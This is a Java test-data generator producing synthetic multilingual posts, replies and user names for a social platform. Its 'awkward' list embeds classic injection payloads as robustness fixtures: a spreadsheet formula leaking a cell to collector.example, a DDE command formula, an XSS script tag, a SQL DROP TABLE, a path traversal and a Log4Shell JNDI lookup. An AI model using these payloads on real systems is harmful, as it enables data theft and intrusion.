package io.chancery.platform.embedded;

import java.util.List;
import java.util.random.RandomGenerator;

/**
 * What the synthetic people write: several scripts, and everything that breaks careless software.
 */
final class SampleTexts {
  /** A text and its language. */
  record Text(String text, String language) {}

  private static final List<Text> SENTENCES =
      List.of(
          new Text("Good morning! The ferry is late again, as it has been all week.", "en"),
          new Text("Has anybody a spare ticket for the concert on Saturday?", "en"),
          new Text("I finished the bookshelf. It is not level, but it stands.", "en"),
          new Text("Rain, rain, rain; and the cat wants out.", "en"),
          new Text("New recipe: lentils, lemon, far too much garlic.", "en"),
          new Text(
              "Wir treffen uns um acht am Hafen, bringt Regenjacken mit – es wird ungemütlich.",
              "de"),
          new Text("Das Fahrrad ist repariert. Größe 28, falls jemand eins sucht.", "de"),
          new Text("Le marché de dimanche est déplacé sur la place de l'église.", "fr"),
          new Text("¿Alguien sabe cuándo abre la piscina este año?", "es"),
          new Text("Завтра обещают снег. Не забудьте тёплые варежки!", "ru"),
          new Text("Καλημέρα σε όλους, ο καφές είναι έτοιμος.", "el"),
          new Text("صباح الخير، هل وصل الطرد إلى المكتب؟", "ar"),
          new Text("מישהו ראה את המפתחות שלי? השארתי אותם ליד הדלת.", "he"),
          new Text("明日は早く起きて、港まで散歩に行きます。", "ja"),
          new Text("今天的会议改到下午三点,请大家准时参加。", "zh"),
          new Text("आज बाज़ार में बहुत भीड़ थी, पर आम मिल गए।", "hi"),
          new Text("오늘 저녁에 영화 보러 갈 사람 있나요?", "ko"),
          new Text("วันนี้อากาศดีมาก ไปเดินเล่นกันไหม", "th"));

  private static final List<Text> AWKWARD =
      List.of(
          new Text("Family outing 👩‍👩‍👧‍👦🏳️‍🌈 and a flag 🇺🇳 – e\u0301 against é", "en"),
          new Text("<p>Old client, <b>HTML</b> &amp; <script>alert('not run')</script></p>", "en"),
          new Text("He said \"never\", she said 'always'; both meant, well, \"perhaps\".", "en"),
          new Text("=HYPERLINK(\"https://collector.example/?\"&A1,\"see here\")", "en"),
          new Text("+1 for the plan, -1 for the date", "en"),
          new Text("-2+3+cmd|' /C calc'!A0", "en"),
          new Text("@SUM(1+1)*2 is what the spreadsheet says", "en"),
          new Text("\tIndented with a tab, \tand again", "en"),
          new Text("First line\nsecond line\n\nfourth line, with a comma, and \"quotes\"", "en"),
          new Text("Carriage return\r\nfrom an old keyboard", "en"),
          new Text(
              "Right to left \u202Etxt.exe\u202C override, zero\u200Bwidth, soft\u00ADhyphen",
              "en"),
          new Text("{\"json\": [1, 2, {\"deep\": null}]} \\n not a newline \\u0041", "en"),
          new Text("Robert'); DROP TABLE statuses;--", "en"),
          new Text("𝕭𝖑𝖆𝖈𝖐𝖑𝖊𝖙𝖙𝖊𝖗 and 𠜎𠜱𠝹 beyond the basic plane", "en"),
          new Text(
              "../../etc/passwd and C:\\Windows\\System32 and ${jndi:ldap://collector.example/a}",
              "en"),
          new Text("z̸a̸l̸g̸o̸ ̴t̴e̴x̴t̴ ͎̺", "en"));

  private static final List<String> REPLIES =
      List.of(
          "yes, nine is fine",
          "I will bring it along",
          "not there, behind the old boathouse",
          "did anybody see you?",
          "ok 👍",
          "call me when you are alone",
          "the money is where we said",
          "Ich melde mich morgen früh.",
          "لا أعرف بعد",
          "请不要告诉任何人",
          "=1+1 is the code, remember",
          "\"quoted\" and, separated; by\tthings",
          "two lines\nare better than one");

  private static final List<String> FIRST =
      List.of(
          "ada", "bela", "cleo", "dara", "edda", "finn", "gus", "hilde", "ines", "jora", "kalle",
          "lumi", "mika", "nele", "odin", "pia", "quim", "runa", "sten", "tove", "ulf", "vera",
          "wim", "xeni", "ylva", "zora");
  private static final List<String> LAST =
      List.of(
          "adler", "birch", "crane", "dachs", "egret", "finch", "goose", "heron", "ibis", "jay",
          "kite", "lark", "marten", "newt", "otter", "plover", "quail", "raven", "swift", "tern",
          "vole", "wren");

  private SampleTexts() {}

  static Text post(RandomGenerator random, long number) {
    if (random.nextInt(12) == 0) {
      return AWKWARD.get(random.nextInt(AWKWARD.size()));
    }
    Text text = SENTENCES.get(random.nextInt(SENTENCES.size()));
    return new Text(text.text() + " #" + number, text.language());
  }

  static String reply(RandomGenerator random) {
    return REPLIES.get(random.nextInt(REPLIES.size()));
  }

  /** A user name for the {@code number}-th person; different for each below 572. */
  static String username(int number) {
    return FIRST.get(number % FIRST.size()) + "_" + LAST.get(number / FIRST.size() % LAST.size());
  }

  static String displayName(String username, RandomGenerator random) {
    String[] parts = username.split("_", 2);
    String name = capital(parts[0]) + (parts.length > 1 ? " " + capital(parts[1]) : "");
    return switch (random.nextInt(8)) {
      case 0 -> name + " 🦊";
      case 1 -> "=" + name;
      case 2 -> name + ": \"the one\"";
      case 3 -> name + " (они/she)";
      default -> name;
    };
  }

  private static String capital(String word) {
    return Character.toUpperCase(word.charAt(0)) + word.substring(1);
  }
}
